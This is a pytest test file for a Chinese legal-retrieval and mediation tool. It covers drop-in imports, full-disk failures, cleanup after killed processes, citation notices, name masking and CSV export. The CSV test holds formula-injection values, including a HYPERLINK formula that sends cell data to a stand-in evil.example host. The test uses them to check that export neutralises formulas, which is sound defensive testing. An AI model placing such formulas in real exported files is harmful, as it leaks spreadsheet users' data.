"""The second probe's holes: nothing silently dropped from drop-in, no half-written
folders on a full disk, no broken milvus-lite store at `serve`, no tracebacks for remote
users, no formulas in exported CSV."""

from __future__ import annotations

import functools
import shutil
import sys
from pathlib import Path

import pytest
from conftest import FAKE_CONFIG, FakeEmbedder

from retrieval.index_folder import IndexFolder, build_lock
from retrieval.service import Service
from ui import cli

sys.path.insert(0, str(Path(__file__).parent / "data" / "ui"))
from ui_kb import build_fixture_kb  # noqa: E402

STATUTE = (
    "# 某村村规民约\n\n<!-- INFO END -->\n\n第一条 村民建房不得占用公共通道。\n\n"
    "第二条 相邻各户应当互谅互让，妥善处理排水、通行等问题。\n"
)


@pytest.fixture(scope="module")
def built(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return build_fixture_kb(tmp_path_factory.mktemp("kb"), FakeEmbedder())


@pytest.fixture
def kb(built: Path, tmp_path: Path) -> Path:
    out = tmp_path / "kb"
    shutil.copytree(built, out)
    return out


@pytest.fixture
def fake_model(monkeypatch: pytest.MonkeyPatch) -> None:
    fake = FakeEmbedder()
    monkeypatch.setattr("retrieval.build.load_embedder", lambda *a, **k: fake)
    monkeypatch.setattr("retrieval.loader.load_embedder", lambda *a, **k: fake)
    monkeypatch.setattr(Service, "load", functools.partial(Service.load, config=FAKE_CONFIG))


def _laws(kb: Path) -> set[str]:
    return {a.law for a in IndexFolder.of(kb).read_records().articles}


def _run(capsys: pytest.CaptureFixture[str], *argv: str) -> tuple[int, str, str]:
    code = cli.main(list(argv))
    out, err = capsys.readouterr()
    return code, out, err


# ---- a file in drop-in is in the index, or reported as not in it ------------------------


def test_an_add_refused_by_a_running_build_says_so_and_a_retry_brings_the_file_in(
    kb: Path, tmp_path: Path, fake_model: None, capsys: pytest.CaptureFixture[str]
) -> None:
    src = tmp_path / "村规民约.md"
    src.write_text(STATUTE, encoding="utf-8")
    with build_lock(kb):  # another build is running
        code, out, err = _run(capsys, "add", str(src), "--kb", str(kb))
    assert code == 1
    (line,) = err.strip().splitlines()
    assert "正在由另一个构建更新" in line and "村规民约.md 已存入 drop-in，但还不能检索" in line
    assert "再次导入同一文件" in line
    assert "某村村规民约" not in _laws(kb)
    code, out, err = _run(capsys, "add", str(src), "--kb", str(kb))  # the retry
    assert code == 0, err
    assert "内容相同，未重复保存" in out
    assert "某村村规民约" in _laws(kb)


@pytest.mark.parametrize("name", ["Readme.md", "README.MD", "readme.md"])
def test_the_drop_in_note_name_is_refused_at_add_not_saved_and_skipped(
    kb: Path, tmp_path: Path, fake_model: None, capsys: pytest.CaptureFixture[str], name: str
) -> None:
    src = tmp_path / name
    src.write_text(STATUTE, encoding="utf-8")
    code, out, err = _run(capsys, "add", str(src), "--kb", str(kb))
    assert code == 1 and "已保存" not in out
    (line,) = err.strip().splitlines()
    assert "留给 drop-in 文件夹的说明" in line and "改名后再导入" in line
    assert not (kb / "drop-in").exists() or not any(
        p.name.lower() == "readme.md" for p in (kb / "drop-in").iterdir()
    )


# ---- a full disk: one line, nothing left behind, the old index answering -----------------
# (simulated here by making the writers fail as on a full disk; the same on a real 20 MB
# tmpfs is in the closing note)

FAISS_FULL = (
    "Error in void faiss::write_index(const Index*, IOWriter*, int) at index_write.cpp:499: "
    "Error: 'ret == (size * 4)' failed: write error in x.faiss: 4051 != 512000 "
    "(No space left on device)"
)


def _dead_pid() -> int:
    import os

    pid = 4_000_000
    while True:
        try:
            os.kill(pid, 0)
        except ProcessLookupError:
            return pid
        except PermissionError:
            pass
        pid += 1


def test_a_full_disk_during_a_build_is_one_line_and_leaves_no_half_index(
    kb: Path,
    tmp_path: Path,
    fake_model: None,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    from retrieval.stores.flat import FlatStore

    before = _laws(kb)
    src = tmp_path / "村规民约.md"
    src.write_text(STATUTE, encoding="utf-8")

    def full(*args: object, **kwargs: object) -> None:
        raise RuntimeError(FAISS_FULL)

    monkeypatch.setattr(FlatStore, "save", full)
    code, out, err = _run(capsys, "add", str(src), "--kb", str(kb))
    assert code == 1 and "Traceback" not in err and "Error" not in err
    (line,) = [ln for ln in err.splitlines() if "错误" in ln]  # the rest: progress bars
    assert line.startswith("错误：磁盘已满") and "正在使用的知识库未改动" in line and "建议" in line
    assert not list(kb.glob(".index-new-*"))
    assert _laws(kb) == before  # the old index answers
    Service.load(kb, embedder=FakeEmbedder(), config=FAKE_CONFIG).ask("楼道堆物", k=1, k_cases=0)
    monkeypatch.undo()


def test_a_full_disk_while_saving_an_upload_is_one_line(
    kb: Path, tmp_path: Path, fake_model: None, monkeypatch: pytest.MonkeyPatch
) -> None:
    import errno

    from retrieval.admin import Upload, add_files

    real = Path.write_bytes

    def full(self: Path, data: bytes) -> int:
        if self.name.endswith(".part"):
            real(self, data[:10])
            raise OSError(errno.ENOSPC, "No space left on device")
        return real(self, data)

    monkeypatch.setattr(Path, "write_bytes", full)
    report = add_files(kb, [Upload("村规民约.md", STATUTE.encode())], embedder=FakeEmbedder())
    ((name, reason),) = report.refused
    assert reason.startswith("错误：磁盘已满") and "村规民约.md" in reason
    assert not any(p.name.endswith(".part") for p in (kb / "drop-in").iterdir())


def test_every_writer_removes_what_killed_writers_left(
    kb: Path, tmp_path: Path, fake_model: None, capsys: pytest.CaptureFixture[str]
) -> None:
    import os

    dead = _dead_pid()
    drop = kb / "drop-in"
    drop.mkdir(exist_ok=True)
    stale = [
        kb / f".index-new-{dead}",
        drop / f".村规.md.{dead}.part",
        kb / f".users.json.{dead}.part",
    ]
    alive = [drop / f".另一个.md.{os.getpid()}.part", drop / ".说明.md.1.part"]  # pid 1 runs
    stale[0].mkdir()
    (stale[0] / "articles.faiss").write_bytes(b"\0" * 1000)
    for p in [*stale[1:], *alive]:
        p.write_bytes(b"half")
    src = tmp_path / "村规民约.md"
    src.write_text(STATUTE, encoding="utf-8")
    assert _run(capsys, "add", str(src), "--kb", str(kb))[0] == 0
    assert [p for p in stale if p.exists()] == []
    assert all(p.exists() for p in alive)


def test_fetch_removes_folders_of_killed_fetches_and_says_when_the_disk_is_full(
    tmp_path: Path, server: object, monkeypatch: pytest.MonkeyPatch
) -> None:
    import errno
    import tarfile

    from ingest.errors import FetchError
    from ingest.fetch import fetch

    kb = tmp_path / "kb"
    left = kb / "fetched" / f".fetch-{_dead_pid()}-abcd"
    left.mkdir(parents=True)
    (left / "archive").write_bytes(b"\0" * 1000)
    archive = tmp_path / "www" / "laws.tar.gz"
    with tarfile.open(archive, "w:gz") as tf:
        tf.add(Path(__file__).parent / "data" / "statutes", arcname="Laws")

    def full(*args: object, **kwargs: object) -> None:
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(tarfile.TarFile, "extractall", full)
    with pytest.raises(FetchError, match="磁盘已满") as info:
        fetch(kb, url=server.url("laws.tar.gz"))  # type: ignore[attr-defined]
    assert "\n" not in info.value.line() and "建议" in info.value.line()
    assert [p.name for p in (kb / "fetched").iterdir()] == []


def test_fetch_index_cleans_up_after_killed_installs_and_a_full_disk(
    kb: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import errno
    import hashlib

    from retrieval import archive as arch

    out = arch.export_index(kb, tmp_path / "pub" / "index.tar.gz")
    (kb / ".index-new-1").mkdir()  # a killed install's folder (whatever its pid says)
    (kb / ".index-new-1" / "articles.faiss").write_bytes(b"\0" * 1000)
    other = kb / f".download-{'0' * 16}.part"  # an earlier install, given up
    other.write_bytes(b"\0" * 1000)
    before = _laws(kb)

    def full(*args: object, **kwargs: object) -> None:
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(arch, "_copy_checked", full)
    digest = hashlib.sha256(out.path.read_bytes()).hexdigest()
    with pytest.raises(arch.ArchiveError, match="磁盘已满") as info:
        arch.install_index(str(out.path), digest, kb)
    assert "\n" not in info.value.line()
    assert not list(kb.glob(".index-new-*")) and not other.exists()
    assert _laws(kb) == before
    monkeypatch.undo()
    arch.install_index(str(out.path), digest, kb)
    assert _laws(kb) == before and not list(kb.glob(".index-new-*"))


# ---- CSV export: no formulas for Excel or WPS -----------------------------------------------


def test_exported_precedents_csv_has_no_formulas_and_imports_back_unchanged(
    kb: Path, tmp_path: Path
) -> None:
    import csv
    import io

    from retrieval.precedents import PrecedentDraft

    service = Service.load(kb, embedder=FakeEmbedder(), config=FAKE_CONFIG)
    hostile = {
        "facts": '=HYPERLINK("http://evil.example/?x="&A1,"点此查看")钱某在楼道堆放杂物。',
        "agreement": "+1+1 钱某三日内清理楼道杂物。",
        "title": "-2+3 楼道堆物纠纷",
        "process": "@SUM(A1:A9) 调解员上门劝说。",
    }
    service.precedents.record(
        PrecedentDraft(dispute_type="邻里关系", articles=("民法典:288",), **hostile)
    )
    data = service.precedents.export("csv")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    cells = [c for row in rows[1:] for c in row]
    assert cells and not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert "'=HYPERLINK(" in data.decode("utf-8-sig")
    # the committee's own re-import reads the text as it was recorded
    other = tmp_path / "other"
    shutil.copytree(kb, other)
    again = Service.load(other, embedder=FakeEmbedder(), config=FAKE_CONFIG)
    assert again.precedents.import_file("调解案例.csv", data).problems == []
    (p,) = again.precedents.records()
    assert (p.facts, p.agreement, p.title, p.process) == (
        hostile["facts"],
        hostile["agreement"],
        hostile["title"],
        hostile["process"],
    )


# ---- citations in questions and links: a notice, never a crash, never 125 times ------------


@pytest.fixture(scope="module")
def service(built: Path) -> Service:
    return Service.load(built, embedder=FakeEmbedder(), config=FAKE_CONFIG)


def test_a_17_digit_article_number_in_a_link_is_no_such_article(service: Service) -> None:
    opened = service.open_citation("民法典", "10000000000000000")  # cn2an: 最长支持 16 位
    assert opened.page is None
    assert "中没有第10000000000000000条" in (opened.problem or "")
    opened = service.open_citation("民法典", "第一千零七十九条之一")
    assert opened.page is None and opened.problem


@pytest.mark.parametrize("number", ["10790", "10000000000000000", "99999999999999999999"])
def test_an_article_number_of_five_digits_or_more_gets_a_notice(
    service: Service, number: str
) -> None:
    notices = service.ask(f"民法典第{number}条是怎么规定的", k=3, k_cases=0).result.notices
    assert [n.text for n in notices if "没有找到《民法典》" in n.text], notices


def test_the_same_citation_repeated_gives_one_notice(service: Service) -> None:
    question = "婚姻法第32条" * 125
    notices = service.ask(question, k=3, k_cases=0).result.notices
    assert len([n for n in notices if "婚姻法" in n.text]) == 1


# ---- masking: names with a space, in pinyin, with a compound surname ------------------------


@pytest.mark.parametrize(
    ("text", "names", "gone"),
    [
        ("原告张 三向被告李四借款五万元。", (), ["张 三", "三向"]),
        ("原告张　三称，张三借款未还。", (), ["三称", "张三"]),
        ("申请人张 三与被申请人协商。", ("张 三",), ["张 三"]),
        ("原告Zhang San与被告李四发生纠纷，Zhang  San称借款已还。", (), ["San"]),
        ("当事人：ZHANG Wei、Li Xiaoming。", ("Li Xiaoming",), ["Wei", "Xiaoming"]),
        ("原告欧阳娜娜与被告司马光明发生纠纷，欧阳娜娜称", (), ["娜娜", "光明"]),
        ("邻居上官婉儿与诸葛亮发生争执。", (), ["婉儿", "亮"]),
    ],
)
def test_names_with_a_space_in_pinyin_or_a_compound_surname_are_masked(
    text: str, names: tuple[str, ...], gone: list[str]
) -> None:
    from ingest.anonymise import anonymise

    masked, counts = anonymise(text, names=names)
    assert counts["姓名"] >= 1
    assert not [g for g in gone if g in masked], masked


def test_a_full_disk_on_a_save_is_one_line_and_saves_nothing(tmp_path, monkeypatch):
    """A 案卷 or precedent save on a full disk: one Chinese line, the transaction rolled back."""
    from contextlib import contextmanager

    from ingest import userdb
    from ingest.errors import FengqiaoError

    path = tmp_path / "user.sqlite3"
    with userdb.writing(path) as db:
        db.execute("CREATE TABLE t (x TEXT)")
        db.execute("INSERT INTO t VALUES ('kept')")
    real = userdb.connect

    @contextmanager
    def full(p, **kw):  # type: ignore[no-untyped-def]
        with real(p, **kw) as db:  # the file may not grow: SQLite's own "disk is full"
            db.execute(f"PRAGMA max_page_count={db.execute('PRAGMA page_count').fetchone()[0]}")
            yield db

    monkeypatch.setattr(userdb, "connect", full)
    with pytest.raises(FengqiaoError, match="磁盘已满") as caught, userdb.writing(path) as db:
        db.execute("INSERT INTO t VALUES (?)", ("x" * 200_000,))
    assert "\n" not in str(caught.value)
    monkeypatch.undo()
    with userdb.connect(path) as db:
        assert [r[0] for r in db.execute("SELECT x FROM t")] == ["kept"]
